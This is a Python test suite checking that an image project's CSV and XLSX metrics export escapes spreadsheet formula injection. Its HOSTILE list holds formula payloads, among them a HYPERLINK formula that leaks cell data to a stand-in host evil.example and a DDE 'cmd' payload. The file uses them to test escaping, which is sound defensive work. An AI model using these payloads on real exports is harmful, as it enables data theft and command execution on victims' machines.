"""CSV formula injection (issue 16, item 7): a text cell that a spreadsheet would read as a
formula is written as text, as OWASP's "CSV Injection" page recommends; numbers are left
alone; XLSX keeps strings as strings; the archive's README states the rule."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl

from app.models import ExportOptions
from archive_helpers import square
from server.archive import write_archive
from server.archive.metrics import CsvMetricsWriter
from server.domain import ImageRecord, ProjectRecord, SegObject

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2-3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
HARMLESS = ["nucleus", "a=b", " =1", "'quoted", "", "x,=1"]


def test_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers():
    out = io.StringIO(newline="")
    writer = CsvMetricsWriter(out, [{"name": "category"}, {"name": "value"}])
    rows = [[text, -1.5] for text in HOSTILE + HARMLESS] + [["n", -0.0], ["n", -12], ["n", None]]
    writer.write_rows(rows)
    writer.write({"category": "=1+1", "value": -7.25})
    back = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert back[0] == ["category", "value"]
    cells = [r[0] for r in back[1:]]
    assert cells[:len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert cells[len(HOSTILE):len(HOSTILE) + len(HARMLESS)] == HARMLESS
    assert [r[1] for r in back[1:]][-4:] == ["-0.0", "-12", "", "-7.25"]
    assert all(r[1] == "-1.5" for r in back[1:len(HOSTILE) + len(HARMLESS) + 1])
    assert back[-1] == ["'=1+1", "-7.25"]


def test_an_archive_s_metrics_csv_escapes_a_hostile_category_and_its_xlsx_keeps_the_text(tmp_path):
    from PIL import Image

    path = tmp_path / "img.png"
    Image.new("L", (40, 30), 10).save(path)
    name = HOSTILE[0]
    objects = [SegObject(1, name, [[square(2, 2, 10)]]), SegObject(2, "@cell", [[square(20, 5, 8)]])]
    project = ProjectRecord(1, "p", [name, "@cell"], None,
                            images=[ImageRecord(1, "img.png", 40, 30, str(path), objects)])
    dest = tmp_path / "a.zip"
    write_archive(project, project.images, ExportOptions(metrics_formats=["csv", "xlsx"]), dest, lambda *a: None)
    with zipfile.ZipFile(dest) as zf:
        rows = list(csv.DictReader(io.StringIO(zf.read("metrics/metrics.csv").decode("utf-8"), newline="")))
        readme = zf.read("README.md").decode("utf-8")
        sheet = openpyxl.load_workbook(io.BytesIO(zf.read("metrics/metrics.xlsx")), read_only=True)["metrics"]
        xlsx_rows = list(sheet.iter_rows(values_only=True))
    assert [r["category"] for r in rows] == ["'" + name, "'@cell"]
    assert float(rows[0]["area_px2"]) == 100.0
    header = list(xlsx_rows[0])
    assert [r[header.index("category")] for r in xlsx_rows[1:]] == [name, "@cell"]
    assert "single quote" in readme and "=, +, -, @, tab or carriage return" in readme
